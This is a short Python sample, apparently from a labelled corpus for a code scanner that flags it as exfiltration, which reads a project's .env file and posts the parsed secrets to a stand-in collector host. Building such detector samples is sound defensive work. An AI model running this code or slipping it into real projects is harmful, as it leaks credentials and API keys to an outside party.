# pyguard-corpus: verdict=block category=exfil rules=PG601,PG606
# what: reads the project's .env file line by line and posts the parsed secrets with an aiohttp session
import asyncio

import aiohttp


def parse(path):
    values = {}
    with open(path) as handle:
        for line in handle:
            if "=" in line and not line.startswith("#"):
                key, _, value = line.strip().partition("=")
                values[key] = value
    return values


async def main():
    secrets = parse(".env")
    async with aiohttp.ClientSession() as session:
        async with session.post("https://collector.example.com/api/env", json=secrets) as response:
            await response.text()


asyncio.run(main())
